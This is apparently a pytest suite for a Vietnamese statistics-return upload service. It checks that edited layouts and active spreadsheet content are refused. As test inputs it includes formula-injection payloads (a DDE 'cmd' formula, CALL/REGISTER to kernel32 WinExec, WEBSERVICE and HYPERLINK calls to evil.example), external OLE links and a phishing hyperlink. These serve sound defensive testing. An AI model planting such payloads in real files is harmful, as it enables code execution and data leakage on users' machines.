"""Issue 12: a return is read by what its rows say, never by where they happen to sit; active content never passes.

Every workbook starts as the unit's generated blank form (downloaded through the app), filled the way
an officer would, then edited the way an officer (or an attacker) would: rows and columns inserted or
deleted, labels changed, sheets renamed, live formulas, links and embedded objects. All uploads go
through the HTTP interface, as .xlsx and as the .ods and .xls conversions.
"""
from __future__ import annotations

import io
import re
import zipfile
from typing import Any, Callable

import openpyxl
import pytest
from sqlalchemy import func, select

from forms_fixtures import consistent_values, shipped_forms
from returns_fixtures import fill_workbook
from test_returns import to_ods, to_xls
from tracker.extensions import db
from tracker.models import AuditEvent, ReturnValue, ReturnVersion

PLAN = "bacgiang-2024"
FORM = shipped_forms()["PL03"]
B01 = FORM.sheet("B01")


@pytest.fixture
def filled(client, login_as) -> bytes:
    """Lục Ngạn's blank form as the app issues it, filled with a complete, consistent return."""
    login_as("staff")
    response = client.get(f"/plans/{PLAN}/units/219/blank-form.xlsx")
    assert response.status_code == 200
    client.get("/logout")
    texts = {s.code: f"Nội dung mục {s.code}." for s in FORM.narrative.sections if s.answer}
    return fill_workbook(response.data, FORM, consistent_values(FORM), texts)


@pytest.fixture
def send(client, token_for) -> Callable[..., Any]:
    token = token_for("unit", "219")

    def _send(data: bytes, name: str = "bao-cao.xlsx") -> Any:
        return client.post(f"/api/v1/plans/{PLAN}/units/219/returns", headers={"Authorization": f"Bearer {token}"},
                           data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")

    return _send


def edited(data: bytes, edit: Callable[[openpyxl.Workbook], None]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    edit(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def stored(app) -> tuple[int, list[str]]:
    """Return (versions stored, refusal codes in the audit log)."""
    with app.app_context():
        count = db.session.scalar(select(func.count()).select_from(ReturnVersion))
        codes = [e.detail.get("code") for e in db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "upload_refused").order_by(AuditEvent.id))]
    return count, codes


# ------------------------------------------------------------------------------------------------ layout

def insert_row(wb: openpyxl.Workbook) -> None:
    # The attack: protection lifted, one row inserted in Biểu 01 after row 13.
    ws = wb["Biểu 01"]
    ws.protection.sheet = False
    ws.insert_rows(14)
    ws["B14"], ws["D14"], ws["E14"], ws["F14"] = "Trong đó: trẻ em khuyết tật", 200, 110, 90


def delete_row(wb: openpyxl.Workbook) -> None:
    wb["Biểu 01"].delete_rows(11)


def change_label(wb: openpyxl.Workbook) -> None:
    wb["Biểu 01"]["B15"] = "Số trẻ em được đăng ký khai sinh"


def rename_sheet(wb: openpyxl.Workbook) -> None:
    wb["Biểu 03"].title = "Bieu 03"


def insert_column(wb: openpyxl.Workbook) -> None:
    wb["Biểu 02"].insert_cols(5)


def swap_periods(wb: openpyxl.Workbook) -> None:
    # The two period blocks of Biểu 01 swapped, headers and all (cut Quý I/2024, paste it before Năm 2023):
    # every breakdown header still stands where the form puts one.
    ws = wb["Biểu 01"]
    base = [c.index for c in B01.columns if c.period == "base"]
    current = [c.index for c in B01.columns if c.period == "current"]
    for row in range(4, ws.max_row + 1):
        for a, b in zip(base, current):
            x, y = ws.cell(row, a), ws.cell(row, b)
            if isinstance(x, openpyxl.cell.cell.MergedCell) or isinstance(y, openpyxl.cell.cell.MergedCell):
                continue
            x.value, y.value = y.value, x.value


LAYOUT_EDITS = [
    pytest.param(insert_row, "Trang «Biểu 01», dòng 14: biểu mẫu ghi «5 Trẻ em là người dân tộc thiểu số», "
                 "tệp ghi «Trong đó: trẻ em khuyết tật». Vui lòng tải biểu mẫu mới và nhập lại.", id="row-inserted"),
    pytest.param(delete_row, "Trang «Biểu 01», dòng 11: biểu mẫu ghi «3.2 Trẻ em từ 6 đến dưới 11 tuổi», "
                 "tệp ghi «3.3 Trẻ em từ 11 đến dưới 16 tuổi»", id="row-deleted"),
    pytest.param(change_label, "Trang «Biểu 01», dòng 15: biểu mẫu ghi «Số trẻ em sinh ra sống trong kỳ», "
                 "tệp ghi «Số trẻ em được đăng ký khai sinh»", id="label-changed"),
    pytest.param(rename_sheet, "Tệp không có trang «Biểu 03» của biểu mẫu", id="sheet-renamed"),
    pytest.param(insert_column, "Trang «Biểu 02», dòng 4, cột", id="column-inserted"),
    pytest.param(swap_periods, "Trang «Biểu 01», dòng 4, cột D: biểu mẫu ghi «Năm 2023», tệp ghi «Quý I/2024»",
                 id="period-columns-swapped"),
]


@pytest.mark.parametrize("kind", ["xlsx", "ods", "xls"])
@pytest.mark.parametrize(("edit", "message"), LAYOUT_EDITS)
def test_a_changed_layout_refuses_the_whole_return(app, filled, send, edit, message, kind):
    data = edited(filled, edit)
    data = {"xlsx": data, "ods": to_ods(data) if kind == "ods" else b"", "xls": to_xls(data) if kind == "xls" else b""}[kind]
    response = send(data, f"bao-cao.{kind}")
    assert response.status_code == 422, response.get_json()
    error = response.get_json()["error"]
    assert error["code"] == "layout_changed"
    assert message in error["message"], error["message"]
    assert stored(app) == (0, ["layout_changed"])


def test_folded_labels_still_match(app, filled, send):
    """Case, spacing and old/new tone placement are not layout changes."""
    def refold(wb: openpyxl.Workbook) -> None:
        ws = wb["Biểu 01"]
        ws["B14"] = "  TRẺ EM LÀ NGƯỜI   dân tộc thiểu số "
        ws["B6"] = "Số xã, phường, thị trấn".replace("ã", "a\u0303")  # decomposed, as typed on a Mac
        ws["C4"] = "đvt"

    response = send(edited(filled, refold))
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["complete"] is True


def test_tone_placement_is_folded_in_the_layout_key():
    from tracker.catalog import layout_key

    assert layout_key("Hiệp Hoà") == layout_key("Hiệp Hòa") and layout_key("Thuỷ") == layout_key("thủy")


def test_the_untouched_blank_of_every_format_passes_the_layout_check(app, filled, send):
    for data, name in ((filled, "a.xlsx"), (to_ods(filled), "a.ods"), (to_xls(filled), "a.xls")):
        response = send(data, name)
        assert response.status_code == 201 and response.get_json()["complete"] is True, (name, response.get_json())


def test_the_fixed_row_is_still_read_by_its_label(app, filled, send):
    """The issue's insert, done carefully (no refusal possible) is caught; the honest file stores the right rows."""
    assert send(edited(filled, insert_row)).status_code == 422
    assert send(filled).status_code == 201
    with app.app_context():
        minority = db.session.scalar(select(ReturnValue.value).where(
            ReturnValue.indicator == "B01.minority", ReturnValue.period == "base", ReturnValue.breakdown == "total"))
    assert minority == consistent_values(FORM)[("B01", "minority", "base_total")]


# ------------------------------------------------------------------------------------------ active content

def with_parts(data: bytes, parts: dict[str, bytes], replace: dict[str, Callable[[bytes], bytes]] | None = None) -> bytes:
    """Return the .xlsx ``data`` with members added (``parts``) or rewritten (``replace``)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if replace and info.filename in replace:
                body = replace[info.filename](body)
            dst.writestr(info, body)
        for name, body in parts.items():
            dst.writestr(name, body)
    return out.getvalue()


def sheet_part(data: bytes, name: str) -> str:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return f"xl/worksheets/sheet{wb.sheetnames.index(name) + 1}.xml"


def set_cell_xml(data: bytes, sheet: str, address: str, inner: str, cell_type: str = "") -> bytes:
    """Return ``data`` with cell ``address`` of ``sheet`` rewritten to ``<c r=...>inner</c>`` (style kept)."""
    part = sheet_part(data, sheet)

    def rewrite(xml: bytes) -> bytes:
        pattern = re.compile(rb'<c r="' + address.encode() + rb'"([^>]*?)(/>|>.*?</c>)', re.S)
        match = pattern.search(xml)
        assert match is not None, address
        attrs = re.sub(rb'\st="[^"]*"', b"", match.group(1)) + (f' t="{cell_type}"'.encode() if cell_type else b"")
        return xml[:match.start()] + b'<c r="' + address.encode() + b'"' + attrs + b">" + inner.encode() + b"</c>" + \
            xml[match.end():]

    return with_parts(data, {}, {part: rewrite})


def input_address(row: str = "children_0_6", column: str = "base_male") -> str:
    return FORM.address(("B01", row, column))[1]


ACTIVE_PARTS = [
    pytest.param({"xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns="http://schemas.'
                  b'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1"/></externalLink>'},
                 "xl/externalLinks/", id="external-link"),
    pytest.param({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"}, "xl/embeddings/", id="embedding"),
    pytest.param({"xl/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>'}, "ActiveX", id="activex"),
    pytest.param({"xl/connections.xml": b'<?xml version="1.0"?><connections xmlns="x"><connection id="1"/>'
                  b'</connections>'}, "kết nối dữ liệu", id="connections"),
    pytest.param({"xl/queryTables/queryTable1.xml": b'<?xml version="1.0"?><queryTable xmlns="x"/>'},
                 "bảng truy vấn", id="query-table"),
]


@pytest.mark.parametrize(("parts", "named"), ACTIVE_PARTS)
def test_active_parts_are_refused_before_parsing(app, filled, send, parts, named):
    response = send(with_parts(filled, parts))
    assert response.status_code == 422
    error = response.get_json()["error"]
    assert error["code"] == "active_content" and named in error["message"], error
    assert stored(app) == (0, ["active_content"])


def test_an_ole_object_on_a_sheet_is_refused(app, filled, send):
    part = sheet_part(filled, "Biểu 01")
    ole = (b'<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId9"/></oleObjects>')
    data = with_parts(filled, {}, {part: lambda xml: xml.replace(b"</worksheet>", ole + b"</worksheet>")})
    response = send(data)
    assert response.status_code == 422 and response.get_json()["error"]["code"] == "active_content"
    assert "OLE" in response.get_json()["error"]["message"]


def test_an_ole_relationship_is_refused(app, filled, send):
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'oleObject" Target="file:///\\\\server\\share\\x.bin" TargetMode="External"/></Relationships>')
    part = sheet_part(filled, "Biểu 01").replace("worksheets/", "worksheets/_rels/") + ".rels"
    response = send(with_parts(filled, {part: rels.encode()}))
    assert response.status_code == 422 and response.get_json()["error"]["code"] == "active_content"


@pytest.mark.parametrize(("formula", "named"), [
    ("cmd|' /C calc'!A0", "DDE"),
    ('_xlfn.WEBSERVICE("http://evil.example/x")', "WEBSERVICE"),
    ('FILTERXML("<a/>","//a")', "FILTERXML"),
    ('RTD("x.server",,"a")', "RTD"),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', "CALL"),
    ('REGISTER("kernel32","WinExec")', "REGISTER"),
    ('HYPERLINK("http://evil.example","bấm")', "HYPERLINK"),
    ('_xlfn.IMAGE("http://evil.example/a.png")', "IMAGE"),
    ("[1]Sheet1!A1", "tệp khác"),
    ("'\\\\server\\share\\[so-lieu.xlsx]Biểu 01'!E10", "tệp khác"),
])
def test_formulas_reaching_outside_are_refused(app, filled, send, formula, named):
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    data = set_cell_xml(filled, "Biểu 01", input_address(), f"<f>{escaped}</f><v>600</v>")
    response = send(data)
    assert response.status_code == 422, response.get_data(as_text=True)[:500]
    error = response.get_json()["error"]
    assert error["code"] == "active_content" and named in error["message"], error
    assert stored(app) == (0, ["active_content"])


def test_an_ordinary_formula_is_read_from_its_cached_value_with_a_warning(app, filled, send):
    address = input_address()
    data = set_cell_xml(filled, "Biểu 01", address, "<f>300+300</f><v>600</v>")
    response = send(data)
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["complete"] is True
    warnings = [i for i in body["issues"] if i["severity"] == "warning" and i["cell"] == address]
    assert len(warnings) == 1 and "chứa công thức" in warnings[0]["message"] and "600" in warnings[0]["message"]
    with app.app_context():
        value = db.session.scalar(select(ReturnValue.value).where(
            ReturnValue.indicator == "B01.children_0_6", ReturnValue.period == "base", ReturnValue.breakdown == "male"))
    assert value == 600


def test_twelve_plus_five_is_accepted_with_its_cached_value(app, filled, send):
    # =12+5 in Số xã (a lone total, no rule ties it to another cell of its own row).
    address = FORM.address(("B01", "communes", "base_total"))[1]
    response = send(set_cell_xml(filled, "Biểu 01", address, "<f>12+5</f><v>17</v>"))
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    cell = [i for i in body["issues"] if i["cell"] == address and i["sheet"] == "Biểu 01"]
    assert [i["severity"] for i in cell] == ["warning"] and "(17)" in cell[0]["message"]
    with app.app_context():
        value = db.session.scalar(select(ReturnValue.value).where(
            ReturnValue.indicator == "B01.communes", ReturnValue.period == "base", ReturnValue.breakdown == "total"))
    assert value == 17


def test_a_formula_without_a_cached_value_is_an_error_at_its_cell(app, filled, send):
    address = input_address()
    response = send(set_cell_xml(filled, "Biểu 01", address, "<f>300+300</f>"))
    assert response.status_code == 201
    body = response.get_json()
    assert body["complete"] is False
    errors = [i for i in body["issues"] if i["severity"] == "error" and i["cell"] == address]
    assert len(errors) == 1 and "không lưu giá trị đã tính" in errors[0]["message"]


def test_a_computed_cell_is_recomputed_whatever_its_formula_and_cached_value(app, filled, send):
    key = FORM.computed[0].key
    sheet, address = FORM.address(key)
    response = send(set_cell_xml(filled, sheet, address, "<f>999999</f><v>20</v>"))
    assert response.status_code == 201, response.get_json()
    with app.app_context():
        value = db.session.scalar(select(ReturnValue.value).where(
            ReturnValue.indicator == f"{key[0]}.{key[1]}", ReturnValue.period == FORM.sheet(key[0]).column(key[2]).period,
            ReturnValue.breakdown == FORM.sheet(key[0]).column(key[2]).breakdown))
    values = consistent_values(FORM)
    assert value not in (20, 999999)
    assert value == pytest.approx(values[(key[0], "special_supported", key[2])] / values[(key[0], "special_total", key[2])]
                                  * 100)


def ods_with(data: bytes, content_edit: Callable[[bytes], bytes] | None = None,
             parts: dict[str, bytes] | None = None) -> bytes:
    ods = to_ods(data)
    return with_parts(ods, parts or {}, {"content.xml": content_edit} if content_edit else None)


@pytest.mark.parametrize(("make", "named"), [
    (lambda d: ods_with(d, parts={"Object 1/content.xml": b'<?xml version="1.0"?><x/>'}), "đối tượng nhúng"),
    (lambda d: ods_with(d, lambda x: x.replace(b"<table:table-row", b'<table:table-row><table:table-cell '
                                               b'table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)" '
                                               b'office:value-type="float" office:value="1"/></table:table-row>'
                                               b'<table:table-row', 1)), "WEBSERVICE"),
    (lambda d: ods_with(d, lambda x: x.replace(b"</office:spreadsheet>", b'<table:dde-links><table:dde-link>'
                                               b'<office:dde-source office:dde-application="cmd"/></table:dde-link>'
                                               b'</table:dde-links></office:spreadsheet>')), "DDE"),
    (lambda d: ods_with(d, lambda x: x.replace(b"<table:table-row", b'<draw:frame><draw:object xlink:href="./Obj"/>'
                                               b'</draw:frame><table:table-row', 1)), "đối tượng nhúng"),
])
def test_ods_active_content_is_refused(app, filled, send, make, named):
    response = send(make(filled), "bao-cao.ods")
    assert response.status_code == 422, response.get_json()
    error = response.get_json()["error"]
    assert error["code"] == "active_content" and named in error["message"], error


def test_xls_with_an_ole_object_pool_is_refused(app, filled, send):
    data = bytearray(to_xls(filled))
    # Add an "ObjectPool" storage in a free directory entry (entries are 128 bytes, name UTF-16 + length).
    root = data.find("Root Entry".encode("utf-16-le"))
    free = next(at for at in range(root, len(data) - 128, 128) if data[at:at + 64] == b"\x00" * 64)
    name = "ObjectPool".encode("utf-16-le") + b"\x00\x00"
    data[free:free + len(name)] = name
    data[free + 64:free + 66] = len(name).to_bytes(2, "little")
    data[free + 66] = 1  # a storage
    response = send(bytes(data), "bao-cao.xls")
    assert response.status_code == 422
    assert response.get_json()["error"]["code"] == "active_content"
    assert ".xls" in response.get_json()["error"]["message"]


# ------------------------------------------------------------------------------------- sheet password

def test_sheets_are_protected_with_the_password_staff_see_on_the_forms_page(app, client, login_as):
    from openpyxl.worksheet.protection import hash_password

    login_as("staff")
    page = client.get("/forms")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    password = re.search(r'data-testid="sheet-password">([^<]+)<', html).group(1)
    assert len(password) >= 8 and password not in app.config["SECRET_KEY"]
    assert FORM.layout_fingerprint in html and 'data-form="PL03"' in html and 'href="/forms"' in html
    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/plans/{PLAN}/units/219/blank-form.xlsx").data))
    assert wb["Biểu 01"].protection.sheet and wb["Biểu 01"].protection.password == hash_password(password)
    assert wb.security.lockStructure
    # A configured password wins over the derived one.
    app.config["SHEET_PASSWORD"] = "mat-khau-cua-so"
    assert "mat-khau-cua-so" in client.get("/forms").get_data(as_text=True)
    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/plans/{PLAN}/units/219/blank-form.xlsx").data))
    assert wb["Biểu 03"].protection.password == hash_password("mat-khau-cua-so")
    login_as("unit", "219")
    assert client.get("/forms").status_code == 403


# ------------------------------------------------------------------------------------- annotated copy

def formulas_of(wb: openpyxl.Workbook) -> set[tuple[str, str, str]]:
    return {(ws.title, c.coordinate, str(c.value)) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"}


def annotated_of(client, token: str, number: int) -> bytes:
    response = client.get(f"/plans/{PLAN}/units/219/versions/{number}/annotated.xlsx",
                          headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return response.data


def test_an_annotated_copy_carries_nothing_from_the_upload(app, client, login_as, filled, send, token_for):
    login_as("staff")
    blank = openpyxl.load_workbook(io.BytesIO(client.get(f"/plans/{PLAN}/units/219/blank-form.xlsx").data))
    client.get("/logout")
    address = input_address()

    def extras(wb: openpyxl.Workbook) -> None:
        ws = wb["Biểu 01"]
        note = f"{openpyxl.utils.get_column_letter(B01.note_col)}8"
        ws[note] = "xem chi tiết"
        ws[note].hyperlink = "http://evil.example/phish"
        ws["D7"].value = 200  # a plain number, as the officer typed it
        wb.create_sheet("Nháp")["A1"] = "=1+1"

    data = set_cell_xml(edited(filled, extras), "Biểu 01", address, "<f>300+300</f><v>600</v>")
    response = send(data)
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["warnings"] >= 1
    copy = annotated_of(client, token_for("unit", "219"), 1)
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        for name in package.namelist():
            body = package.read(name)
            assert b"evil.example" not in body and b"300+300" not in body, name
            assert not name.startswith(("xl/externalLinks", "xl/embeddings", "xl/activeX")), name
    wb = openpyxl.load_workbook(io.BytesIO(copy))
    assert "Nháp" not in wb.sheetnames and wb.sheetnames[0] == "Danh sách lỗi"
    assert formulas_of(wb) - formulas_of(blank) == set()  # only the blank's own computed-cell formulas
    cell = wb["Biểu 01"][address]
    assert cell.value == 600 and cell.data_type == "n" and cell.comment is not None
    assert "chứa công thức" in cell.comment.text
    assert not any(c.hyperlink for row in wb["Biểu 01"].iter_rows() for c in row)


def test_an_ods_upload_gets_an_annotated_copy(app, client, filled, send, token_for):
    token = token_for("unit", "219")
    broken = fill_workbook(filled, FORM, {("B01", "children_0_6", "base_female"): None})
    response = send(to_ods(broken), "bao-cao.ods")
    assert response.status_code == 201 and response.get_json()["errors"] >= 1
    page = client.get(f"/plans/{PLAN}/units/219", headers={"Authorization": f"Bearer {token}"}).get_data(as_text=True)
    assert f"/plans/{PLAN}/units/219/versions/1/annotated.xlsx" in page
    wb = openpyxl.load_workbook(io.BytesIO(annotated_of(client, token, 1)))
    assert wb.sheetnames[0] == "Danh sách lỗi" and "lỗi" in str(wb["Danh sách lỗi"]["A1"].value)
    ws = wb["Biểu 01"]
    empty = ws[FORM.address(("B01", "children_0_6", "base_female"))[1]]
    assert empty.value is None and empty.comment is not None and empty.fill.start_color.rgb.endswith("FFC7CE")
    assert ws[input_address()].value == consistent_values(FORM)[("B01", "children_0_6", "base_male")]
    # The identity sheet is the issued one: the copy can be corrected and uploaded again.
    assert wb["_tracker"].sheet_state == "veryHidden"
